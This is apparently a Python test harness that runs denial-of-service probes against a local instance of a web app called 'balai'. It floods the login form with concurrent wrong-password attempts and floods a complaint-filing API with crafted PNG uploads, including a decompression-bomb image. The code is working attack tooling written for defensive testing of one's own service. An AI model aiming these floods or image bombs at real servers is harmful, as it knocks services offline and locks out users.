#!/usr/bin/env python3
"""Denial-of-service probes against one running balai (127.0.0.1 only), standard library only.

  drive.py BASE login-one N USER      N sign-ins at once to USER with a wrong password
  drive.py BASE login-many N          N sign-ins at once to N different (unknown) accounts
  drive.py BASE photos N KIND         N complaint filings at once, each with one photo:
                                      KIND bomb (8000 x 8000 1-bit PNG, a few KB) or
                                      large (4000 x 3000 RGB PNG, 36 MB decoded)
Prints one line: the statuses and their counts, and the wall time.
"""
import base64
import http.client
import json
import re
import struct
import sys
import threading
import time
import urllib.parse
import zlib


def conn(base):
    u = urllib.parse.urlparse(base)
    return http.client.HTTPConnection(u.hostname, u.port, timeout=300)


def login_token(base):
    c = conn(base)
    c.request("GET", "/login")
    r = c.getresponse()
    html = r.read().decode()
    cookies = [v.split(";")[0] for k, v in r.getheaders() if k.lower() == "set-cookie"]
    token = re.search(r'name="csrf" value="([^"]+)"', html).group(1)
    return "; ".join(cookies), token


def login(base, cookie, token, user):
    body = urllib.parse.urlencode(
        {"csrf": token, "username": user, "password": "salah-sekali-123", "next": "/dashboard"})
    c = conn(base)
    c.request("POST", "/login", body, {
        "Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie})
    r = c.getresponse()
    r.read()
    return r.status


def png(width, height, depth, colour, row):
    """A PNG whose every row is `row` (filter byte included)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    z = zlib.compressobj(9)
    idat = b"".join(z.compress(row) for _ in range(height)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def photo(kind):
    if kind == "bomb":
        side = 8000
        return png(side, side, 1, 0, b"\0" * (1 + side // 8))
    w, h = 4000, 3000
    # Filter "Sub" with a constant difference: a smooth gradient that compresses well but
    # decodes to every one of its 12 million pixels.
    return png(w, h, 8, 2, b"\x01" + bytes([3, 5, 7]) * w)


def filing(base, body):
    c = conn(base)
    c.request("POST", "/api/v1/complaints", body, {"Content-Type": "application/json"})
    r = c.getresponse()
    r.read()
    return r.status


def run(n, work):
    out = [None] * n
    start = threading.Barrier(n)

    def one(i):
        start.wait()
        try:
            out[i] = work(i)
        except Exception as e:  # a refused or reset connection is an outcome too
            out[i] = type(e).__name__
    threads = [threading.Thread(target=one, args=(i,)) for i in range(n)]
    t0 = time.time()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    counts = {}
    for s in out:
        counts[str(s)] = counts.get(str(s), 0) + 1
    return counts, time.time() - t0


def main():
    base, what, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    if what == "login-one":
        cookie, token = login_token(base)
        counts, secs = run(n, lambda i: login(base, cookie, token, sys.argv[4]))
    elif what == "login-many":
        cookie, token = login_token(base)
        counts, secs = run(n, lambda i: login(base, cookie, token, f"nobody{i}"))
    elif what == "photos":
        data = base64.b64encode(photo(sys.argv[4])).decode()
        body = json.dumps({"category": "infrastruktur",
                           "description": "Jalan berlubang di depan pasar, berbahaya.",
                           "village_code": sys.argv[5], "photos": [data]})
        counts, secs = run(n, lambda i: filing(base, body))
    else:
        sys.exit(__doc__)
    print(f"statuses {json.dumps(counts, sort_keys=True)} wall {secs:.1f}s")


if __name__ == "__main__":
    main()
